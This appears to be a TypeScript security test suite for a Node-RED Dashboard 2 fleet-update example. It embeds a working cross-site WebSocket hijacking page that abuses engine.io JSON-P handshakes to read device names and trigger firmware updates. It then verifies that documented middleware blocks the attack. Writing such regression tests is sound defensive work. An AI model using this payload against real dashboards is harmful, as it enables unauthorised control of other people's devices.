/**
 * The dashboard example (examples/dashboard-fleet-progress.json) against a
 * page of another site that the owner opens in the browser that shows the
 * dashboard. Dashboard 2's socket.io (engine.io) still answers JSON-P
 * handshakes (`j=`): a script tag of any page loads one without an Origin
 * header, which Dashboard 2's own check takes for the dashboard's page, and
 * hands that page the session id; it then upgrades the session to a
 * WebSocket (no CORS there) and reads the page's data and presses its
 * buttons. docs/SECURITY.md gives the settings.js `dashboard.ioMiddleware`
 * that refuses such connections; this suite runs Node-RED with it, read from
 * that page, in Debian's Chromium.
 */
import { strict as assert } from 'node:assert';
import { readFileSync } from 'node:fs';
import { createServer, Server } from 'node:http';
import { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { nodeRedInChromium } from './support/chromium';
import { NodeRedProcess, ROOT } from './support/node-red-process';

const EXAMPLE = join(ROOT, 'examples/dashboard-fleet-progress.json');
const DASHBOARD = join(ROOT, 'node_modules/@flowfuse/node-red-dashboard');
const TEMPLATE = 'd2b0a7d1e5f00007'; // the example's ui-template: its buttons send() through it

/** The settings.js block of docs/SECURITY.md for Dashboard 2, as a user copies it. */
function documentedDashboardSettings(): string {
  const doc = readFileSync(join(ROOT, 'docs', 'SECURITY.md'), 'utf8');
  const block = /\n```js\n\/\/ settings\.js: Dashboard 2\n([\s\S]*?)\n```/.exec(doc);
  assert.ok(block, 'docs/SECURITY.md has a "// settings.js: Dashboard 2" block');
  return block[1];
}

/** What the other site's page got: whether Dashboard 2 took its connection, and the device names it read. */
interface Attack {
  connected: boolean;
  devices: string[];
  refusal?: string;
}

/**
 * The other site's page: a JSON-P handshake by script tag (no Origin header), the session
 * upgraded to a WebSocket, then "Update all" pressed and the page's rows asked for.
 */
function attackPage(dashboard: string): string {
  const ws = dashboard.replace(/^http/, 'ws');
  return `<!DOCTYPE html><script>
  window.attack = new Promise((resolve) => {
    window.___eio = [(packet) => {
      const sid = JSON.parse(packet.slice(1)).sid;
      const ws = new WebSocket('${ws}/dashboard/socket.io/?EIO=4&transport=websocket&sid=' + sid);
      ws.onopen = () => ws.send('2probe');
      ws.onclose = () => resolve({ connected: false, devices: [], refusal: 'closed' });
      ws.onmessage = ({ data }) => {
        if (data === '3probe') { ws.send('5'); ws.send('40'); }
        else if (data === '2') ws.send('3');
        else if (data.startsWith('44')) resolve({ connected: false, devices: [], refusal: data });
        else if (data.startsWith('40')) {
          ws.send('42' + JSON.stringify(['widget-send', '${TEMPLATE}', { topic: 'update', device: '*' }]));
          ws.send('42' + JSON.stringify(['widget-load', '${TEMPLATE}']));
        } else if (data.startsWith('42["widget-load:${TEMPLATE}"')) {
          const rows = JSON.parse(data.slice(2))[1]?.payload ?? [];
          resolve({ connected: true, devices: rows.map((r) => r.name) });
        }
      };
    }];
    const script = document.createElement('script');
    script.src = '${dashboard}/dashboard/socket.io/?EIO=4&transport=polling&j=0';
    script.onerror = () => resolve({ connected: false, devices: [], refusal: 'handshake not loaded' });
    document.head.appendChild(script);
  });
  </script>`;
}

/** Node-RED with the example and `settings`, and the other site's page on localhost (Node-RED is 127.0.0.1). */
function exampleAndOtherSite(settings: string) {
  let evil: Server | undefined;
  const ui = nodeRedInChromium(
    async () => {
      const flow = JSON.parse(readFileSync(EXAMPLE, 'utf8')) as Array<Record<string, unknown>>;
      const nr = await NodeRedProcess.start(flow, `nodesDir: [${JSON.stringify(DASHBOARD)}],\n${settings}`);
      await nr.waitForOutput(/\[ui-base:[^\]]*\] Node-RED Dashboard 2\.0 .* started at \/dashboard/, 10_000);
      evil = createServer((_req, res) => {
        res.setHeader('content-type', 'text/html');
        res.end(attackPage(nr.url));
      });
      await new Promise<void>((r) => evil!.listen(0, '127.0.0.1', r));
      return nr;
    },
    { width: 1000, height: 480 },
  );
  after(() => evil?.close());
  return {
    ui,
    /** Opens the owner's dashboard until the scan at deploy has filled its rows, then the other site's page; what that page got. */
    async attack(): Promise<Attack> {
      const { nr, page } = ui;
      await page.goto(`${nr.url}/dashboard/fleet-ota`);
      await page.locator('tr[data-device]').nth(2).waitFor({ timeout: 60_000 });
      await page.goto(`http://localhost:${(evil!.address() as AddressInfo).port}/`);
      return (await page.evaluate('window.attack')) as Attack;
    },
  };
}

describe("the dashboard example against a page of another site in the owner's browser", function () {
  this.timeout(240_000);

  describe('Dashboard 2 as installed (no settings)', () => {
    const run = exampleAndOtherSite('');
    it("the other site's page reads every device and its Update all updates them: what the documented settings stop", async () => {
      const attack = await run.attack();
      assert.deepEqual([attack.connected, attack.devices], [true, ['esp32-lab-1', 'esp32-lab-2', 'esp32-lab-3']], JSON.stringify(attack));
      await run.ui.nr.waitForOutput(/updated esp32-lab-1 to dashboard-demo 1\.1\.0/, 90_000);
    });
  });

  describe('settings.js as docs/SECURITY.md says', () => {
    const run = exampleAndOtherSite(documentedDashboardSettings());
    it("its connection is refused: it reads no device and presses no button; the dashboard's own page still updates", async () => {
      const { nr, page } = run.ui;
      const attack = await run.attack();
      assert.deepEqual([attack.connected, attack.devices], [false, []], JSON.stringify(attack));

      // The owner's Update on one row: the first press the flow ever got, so its image is 1.1.0 and
      // goes to that device alone (had the other site's "Update all" gone through, it would be 1.2.0,
      // and every row busy).
      await page.goto(`${nr.url}/dashboard/fleet-ota`);
      const row = page.locator('tr[data-device="esp32-lab-1"]');
      await row.getByRole('button', { name: 'Update' }).click();
      await row.locator('.ota-result', { hasText: /^confirmed/ }).waitFor({ timeout: 90_000 });
      assert.match((await row.locator('.ota-result').textContent()) ?? '', /^confirmed 1\.1\.0 in /);
      assert.match(nr.output, /updated esp32-lab-1 to dashboard-demo 1\.1\.0/);
      assert.doesNotMatch(nr.output, /updated esp32-lab-[23]|dashboard-demo 1\.2\.0/);
    });
  });
});
